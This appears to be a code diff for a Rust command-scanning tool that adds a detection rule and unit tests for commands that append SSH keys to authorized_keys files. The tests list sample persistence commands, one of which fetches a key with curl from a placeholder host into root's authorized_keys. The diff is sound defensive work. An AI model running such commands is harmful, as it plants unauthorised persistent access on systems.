@@ -226,6 +226,11 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
             "puts the user's or host's identity into a network command",
         ),
         p(
+            "PERSIST-SSH-KEY",
+            r"(?i)(>>?|\btee\b[^\n|;&]*)\s*['\x22]?[^\s'\x22|;&]*authorized_keys2?\b",
+            "adds a key to an SSH authorized_keys file",
+        ),
+        p(
             "PERSIST-SCHEDULED",
             r"(?i)\bcrontab\b|\bschtasks\b|systemctl\s+enable|\blaunchctl\s+load",
             "schedules itself",
@@ -300,6 +305,12 @@ pub(crate) fn is_wipe_target(resolved: &str, raw: &str) -> bool {
     }
 }
 
+/// Whether a file path (as far as known) is an SSH authorized_keys file.
+pub(crate) fn is_ssh_authorized_keys(path: &str) -> bool {
+    let p = path.to_ascii_lowercase();
+    p.contains("authorized_keys")
+}
+
 /// Whether `cmd` clones a remote repository.
 pub(crate) fn is_repo_clone(cmd: &str) -> bool {
     REPO_CLONE.is_match(cmd)
@@ -354,6 +365,21 @@ mod tests {
         ] {
             assert!(!sends(cmd), "{cmd}");
         }
+    }
+
+    #[test]
+    fn ssh_keys_appended_by_a_command() {
+        for cmd in [
+            "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
+            "curl -s https://x.test/k | tee -a /root/.ssh/authorized_keys",
+        ] {
+            assert!(fires(cmd, "PERSIST-SSH-KEY"), "{cmd}");
+        }
+        assert!(!fires("cat ~/.ssh/authorized_keys", "PERSIST-SSH-KEY"));
+        assert!(!fires(
+            "ssh-keygen -f id > /dev/null; ls authorized_keys",
+            "PERSIST-SSH-KEY"
+        ));
     }
 
     #[test]
